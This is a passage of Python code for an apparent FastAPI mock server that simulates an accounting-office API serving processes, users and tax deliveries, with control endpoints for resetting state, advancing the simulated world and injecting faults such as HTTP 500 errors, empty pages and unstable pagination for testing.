    @app.get("/processes/{ident}/")
    async def processes(ident: str, request: Request) -> Response:
        is_list = ident.rstrip("*") == "ListAll"
        refused, kind = await _gate(request, "processes_list" if is_list else "process_detail", is_list)
        if refused:
            return refused
        office = sim.office(kind)
        today = today_sao_paulo()
        if not is_list:
            try:
                proc_id = int(ident)
            except ValueError:
                return JSONResponse({"Erro": "Processo inválido"})
            sim.detail_ids.append(proc_id)
            if proc_id in sim.faults["fail_detail_ids"]:
                return JSONResponse({"message": "Internal Server Error"}, status_code=500)
            proc = office.processos.get(proc_id)
            if proc is None:
                return Response(status_code=204)
            body = process_header(proc, today)
            body["ProcPassos"] = _render_steps(proc, TEMPLATES[proc.template]["passos"], [0])
            return JSONResponse([body])
        params = request.query_params
        letter = (params.get("ProcStatus") or "").strip().upper()[:1]
        wanted = STATUS_LETTERS.get(letter)
        since = _parse_filter_dt(params.get("DtLastDH"))
        ini, fim = (
            _parse_filter_date(params.get("ProcInicioIni")),
            _parse_filter_date(params.get("ProcInicioFim")),
        )
        rows = []
        for proc in office.processos.values():
            status = _status_text(proc)
            if (wanted and status != wanted) or (not wanted and proc.excluido):
                continue
            if since and proc.last <= since:
                continue
            if (ini and proc.inicio < ini) or (fim and proc.inicio > fim):
                continue
            rows.append(proc)
        rows.sort(key=lambda p: p.id)
        page = _page(request)
        start = (page - 1) * PROCESS_PAGE
        # Upstream pagination is unstable on long unfiltered lists: pages shift by a row either way.
        shift = 0
        if sim.faults["unstable_pages"] and not (since or wanted or ini or fim) and page > 1:
            shift = ((page * 7 + sim.seed) % 3) - 1
        chunk = (
            rows[max(0, start + shift) : max(0, start + shift) + PROCESS_PAGE] if start < len(rows) else []
        )
        if not chunk:
            return Response(status_code=204)
        return JSONResponse([process_header(p, today) for p in chunk])

    # --- users ----------------------------------------------------------------------------------
    @app.get("/users/{ident}")
    @app.get("/users/{ident}/")
    async def users(ident: str, request: Request) -> Response:
        is_list = ident == "ListAll"
        refused, _kind = await _gate(request, "users_list" if is_list else "user", is_list)
        if refused:
            return refused
        if not is_list:
            user_id = int(ident) if ident.isdigit() else None
            if user_id not in USUARIOS:
                return JSONResponse({"Erro": "Usuário não encontrado"})
            return JSONResponse(user_json(user_id, USUARIOS[user_id]))
        listed = [(i, n) for i, n in USUARIOS.items() if i not in USUARIOS_FORA_DA_LISTA]
        page = _page(request)
        chunk = listed[(page - 1) * USER_PAGE : page * USER_PAGE]
        if not chunk:
            return Response(status_code=204)
        return JSONResponse([user_json(i, n) for i, n in chunk])

    # --- deliveries -----------------------------------------------------------------------------
    @app.get("/deliveries/{ident}")
    @app.get("/deliveries/{ident}/")
    async def deliveries(ident: str, request: Request) -> Response:
        is_list = ident == "ListAll"
        refused, kind = await _gate(request, "deliveries_list" if is_list else "deliveries_company", is_list)
        if refused:
            return refused
        office = sim.office(kind)
        params = request.query_params
        ini, fim = _parse_filter_date(params.get("DtInitial")), _parse_filter_date(params.get("DtFinal"))
        config_value = params.get("config")
        with_config = "config" in params and not config_value
        only_ent = int(config_value) if config_value and config_value.isdigit() else None
        since = _parse_filter_dt(params.get("DtLastDH"))
        if ini is None or fim is None:
            return Response(status_code=204)  # no window, no result (and no error)
        if is_list:
            oldest = datetime.combine(
                today_sao_paulo() - timedelta(days=1), datetime.min.time(), SAO_PAULO
            )
            if since is None or since < oldest:
                return Response(status_code=204)  # ListAll only takes today/yesterday
            scope = office.entregas
        else:
            digits = "".join(ch for ch in ident if ch.isdigit())
            sim.delivery_cnpjs.append(digits)
            found = [e for e in office.empresas if "".join(c for c in e.cnpj if c.isdigit()) == digits]
            if not found:
                return JSONResponse({"Erro": "Empresa não encontrada"})
            scope = [e for e in office.entregas if e.empresa is found[0]]
        rows = [
            e
            for e in scope
            if ini <= e.prazo <= fim
            and (since is None or e.last > since)
            and (only_ent is None or e.ent_id == only_ent)
        ]
        rows.sort(key=lambda e: (e.empresa.id, e.ent_id))
        page = _page(request)
        chunk = rows[(page - 1) * DELIVERY_PAGE : page * DELIVERY_PAGE]
        if not chunk:
            return Response(status_code=204)
        blocks: list[dict[str, Any]] = []
        for ent in chunk:
            if not blocks or blocks[-1]["ID"] != str(ent.empresa.id):
                emp = ent.empresa
                blocks.append(
                    {
                        "ID": str(emp.id),
                        "Identificador": emp.cnpj,
                        "Razao": emp.razao,
                        "Fantasia": emp.fantasia,
                        "Entregas": [],
                    }
                )
            blocks[-1]["Entregas"].append(delivery_json(ent, with_config))
        return JSONResponse(blocks if is_list else blocks[0])

    # --- control --------------------------------------------------------------------------------
    def _control_office(request: Request, body: dict[str, Any]) -> str:
        token = body.get("token")
        if token in OFFICES:
            return OFFICES[token]
        who = _office_of(request)
        return who[1] if who else "small"

    @app.post("/_control/reset")
    async def control_reset() -> dict[str, str]:
        sim.reset()
        return {"status": "reset"}

    @app.post("/_control/advance")
    async def control_advance(request: Request) -> dict[str, Any]:
        body = await request.json() if (await request.body()) else {}
        kind = _control_office(request, body)
        return sim.advance(
            kind,
            int(body.get("steps_completed", 0)),
            int(body.get("processes_created", 0)),
            int(body.get("deliveries_changed", 0)),
            int(body.get("processes_deleted", 0)),
            int(body.get("companies_created", 0)),
            int(body.get("deliveries_overdue", 0)),
            int(body.get("months_opened", 0)),
        )

    @app.post("/_control/faults")
    async def control_faults(request: Request) -> dict[str, Any]:
        body = await request.json()
        for key in ("silent_empty_pages", "http_500"):
            if key in body:
                sim.faults[key] = int(body[key])
        if "fail_detail_ids" in body:
            sim.faults["fail_detail_ids"] = [int(i) for i in body["fail_detail_ids"]]
        if "silent_empty_on" in body:  # "processes" | "companies" | "deliveries" | null (any list)
            sim.faults["silent_empty_on"] = body["silent_empty_on"]
        if "unstable_pages" in body:
            sim.faults["unstable_pages"] = bool(body["unstable_pages"])
        if body.get("clear_window"):  # forget past requests (benchmarks between scenarios)
            sim.window.clear()
        if "rate_limit" in body:
            sim.rate_limit = max(1, int(body["rate_limit"]))
        if body.get("throttle_mode") in ("429", "silent"):
            sim.throttle_mode = body["throttle_mode"]
        return {**sim.faults, "rate_limit": sim.rate_limit, "throttle_mode": sim.throttle_mode}

    @app.get("/_control/stats")
    async def control_stats() -> dict[str, Any]:
        return {
            "requests": dict(sim.stats),
            "total": sim.stats["total"],
            "detail_ids": list(sim.detail_ids),
            "delivery_cnpjs": list(sim.delivery_cnpjs),
        }

    @app.post("/_control/stats/reset")
    async def control_stats_reset() -> dict[str, str]:
        sim.reset_stats()
        return {"status": "reset"}

    @app.get("/_control/world")
    async def control_world(request: Request, token: str = "test-token") -> dict[str, Any]:
        """What the world holds now (for tests and benchmarks to compare the mirror with)."""
        kind = OFFICES.get(token, "small")
        office = sim.office(kind)
        alive = [p for p in office.processos.values() if not p.excluido]
        return {
            "empresas": len(office.empresas),
            "processos": len(alive),
            "processos_ids": sorted(p.id for p in alive),
            "excluidos": sorted(p.id for p in office.processos.values() if p.excluido),
            "entregas": len(office.entregas),
            "max_proc_id": office.next_proc_id - 1,
        }

    return app
